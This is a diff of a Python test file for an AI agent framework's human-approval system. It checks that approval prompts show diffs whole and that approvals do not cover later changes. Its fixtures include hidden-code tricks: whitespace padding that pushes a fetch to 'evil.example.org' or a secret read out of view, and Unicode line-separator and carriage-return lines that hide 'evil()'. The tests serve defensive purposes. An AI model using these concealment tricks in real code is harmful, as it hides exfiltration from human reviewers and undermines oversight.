@@ -1,23 +1,20 @@
 """An approval covers what a human saw at that moment: changes made during or after it get nothing."""
 
 from collections.abc import Awaitable, Callable
-from pathlib import Path
 
 import pytest
 
 from agent_core.access.grants import Decision, Grants, Question
 from agent_core.access.grants.content import differences
 from agent_core.base.errors import WorkspaceError
-from agent_core.functions.service import Author
 from agent_core.interfaces.render.grant_question import question_rows
 from agent_core.interfaces.spans import plain
 from agent_core.registry.source import ModuleSource
 from tests.functions.support import Room
 
-from .support import FETCHES, PLAIN, human
+from .support import AGENT, FETCHES, PLAIN, human, now
 
 pytestmark = pytest.mark.asyncio(loop_scope="module")
-AGENT = Author("agent", "main", "turn", "scripted")
 ONE, OTHER = "one.example.org", "other.example.org"
 WEATHER = FETCHES.replace("{HOST}", ONE)
 WIDER = WEATHER.replace("return self", f'self.fetch("http://{OTHER}/")\n    return self')
@@ -42,11 +39,6 @@ def who_meanwhile(
         return Decision(answer)  # type: ignore[arg-type]  # one of the three
 
     return asked
-
-
-async def now(here: Room, name: str = "weather") -> Grants:
-    snapshot = here.shop.registry.snapshot()
-    return await here.shop.granting.book.allowed(snapshot.functions[name], snapshot)
 
 
 async def test_what_is_revoked_before_a_yes_is_written_down_does_not_come_back_with_it(here: Room) -> None:
@@ -91,21 +83,18 @@ async def test_a_yes_to_a_function_lets_no_candidate_in_that_came_meanwhile(here
     assert OTHER not in here.shop.source("weather")
 
 
-async def test_a_yes_for_the_next_call_is_not_used_up_by_another_function(here: Room) -> None:
+async def test_a_yes_for_the_next_call_is_not_for_another_function_and_is_taken_back_with_the_grants(
+    here: Room,
+) -> None:
     await here.save(CALLER, here.root / "functions" / "ask.py")
     here.shop.granting.approver = human("once")
     assert (await here.shop.create("weather", WEATHER, "sky", author=AGENT)).admitted
     here.shop.granting.approver = None
-    found = await here.shop.call("ask", {})
-    assert "may not call it" in str(found)
-
-
-async def test_a_yes_for_the_next_call_is_taken_back_with_the_grants(here: Room) -> None:
-    here.shop.granting.approver = human("once")
-    assert (await here.shop.create("weather", WEATHER, "sky", author=AGENT)).admitted
+    assert "may not call it" in str(await here.shop.call("ask", {}))
+    snapshot, book = here.shop.registry.snapshot(), here.shop.granting.book
+    assert "weather" in await book.needed_to_call(snapshot), "what was lent is there yet"
     await here.shop.grants.revoke("weather", None)
-    snapshot = here.shop.registry.snapshot()
-    assert here.shop.granting.book.borrowed(snapshot.functions["weather"], snapshot) == Grants()
+    assert book.borrowed(snapshot.functions["weather"], snapshot) == Grants()
 
 
 async def test_a_pulled_file_raises_no_limit_of_the_examples_and_a_human_does(here: Room) -> None:
@@ -118,41 +107,29 @@ async def test_a_pulled_file_raises_no_limit_of_the_examples_and_a_human_does(he
 
 
 def asked(diff: str = "", **more: object) -> str:
-    lines = question_rows(Question("weather", diff=diff, **more), 100)  # type: ignore[arg-type]  # its own fields
-    return plain(lines)
+    return plain(question_rows(Question("weather", diff=diff, **more), 100))  # type: ignore[arg-type]  # its own fields
 
 
-async def test_a_long_line_of_a_diff_is_shown_whole_and_no_part_of_it_as_a_line_of_its_own() -> None:
-    shown = asked(f"--- a\n+++ b\n@@ -1 +1 @@\n+x = 1{' ' * 400}; self.fetch('http://evil.example.org')")
-    (row,) = [row for row in shown.splitlines() if "evil.example.org" in row]
-    assert row.startswith("  ↪ ")
-    assert "  │ +x = 1" in shown.splitlines()
-
-
-async def test_a_line_of_code_that_needs_something_is_shown_whole() -> None:
+async def test_long_lines_diffs_and_paths_are_shown_whole_and_no_part_as_a_line_of_its_own() -> None:
+    shown = asked(f"--- a\n+++ b\n@@ -1 +1 @@\n+x = 1{' ' * 400}; self.fetch('http://evil.example.org')").splitlines()
+    assert [row[:4] for row in shown if "evil.example.org" in row] == ["  ↪ "]
+    assert "  │ +x = 1" in shown
     code = f'url = "http://api.example.org/"{" " * 260}; self.fetch(url + self.secret("KEY"))'
-    shown = asked(lines=((4, code),)).splitlines()
-    assert [row[:4] for row in shown if "KEY" in row] == ["  ↪ "]
-
-
-async def test_a_long_diff_is_shown_whole() -> None:
+    assert [row[:4] for row in asked(lines=((4, code),)).splitlines() if "KEY" in row] == ["  ↪ "]
     text = "".join(f"# {number}\n" for number in range(9_000))
-    shown = differences({"a": text}, [ModuleSource.of("a", f"{text.replace('#', '##')}evil()\n")])
-    assert "## 4500" in asked(shown)
-    assert "evil" in shown
+    diff = differences({"a": text}, [ModuleSource.of("a", f"{text.replace('#', '##')}evil()\n")])
+    assert "## 4500" in asked(diff)
+    assert "evil" in diff
+    assert "/secret" in asked(missing=Grants(read=(f"/{'a/' * 140}secret/",))).replace("\n", "").replace(" ", "")
 
 
-async def test_what_python_takes_for_one_line_is_one_line_of_a_diff() -> None:
+async def test_the_lines_of_a_diff_are_those_of_python() -> None:
     old = "def f(self):\n    return 1\n"
     new = "def f(self):\n    x = 1  # note\u2028    return 1\n    return self.secret('KEY')\n"
-    shown = differences({"a": old}, [ModuleSource.of("a", new)])
-    assert "+    x = 1  # note\u2028    return 1" in shown.split("\n")
-    assert "-    return 1" in shown.split("\n")
-
-
-async def test_a_return_at_the_end_of_a_line_ends_it_as_it_does_for_python() -> None:
-    shown = differences({"a": "x = 1\n"}, [ModuleSource.of("a", "x = 1  # note\r    evil()\n")])
-    assert "+    evil()" in shown.split("\n")
+    shown = differences({"a": old}, [ModuleSource.of("a", new)]).split("\n")
+    assert {"+    x = 1  # note\u2028    return 1", "-    return 1"} <= {*shown}
+    shown = differences({"a": "x = 1\n"}, [ModuleSource.of("a", "x = 1  # note\r    evil()\n")]).split("\n")
+    assert "+    evil()" in shown
 
 
 async def test_a_difference_that_nobody_can_read_is_granted_by_nobody(here: Room) -> None:
@@ -167,7 +144,3 @@ async def test_a_difference_that_nobody_can_read_is_granted_by_nobody(here: Room
     assert (len(who.asked), "characters long" in str(found)) == (2, True)
     with pytest.raises(WorkspaceError, match="characters long"):
         await here.shop.grants.question("weather")
-
-
-async def test_the_end_of_a_long_path_is_seen(tmp_path: Path) -> None:
-    assert "/secret" in asked(missing=Grants(read=(f"/{'a/' * 140}secret/",))).replace("\n", "").replace(" ", "")
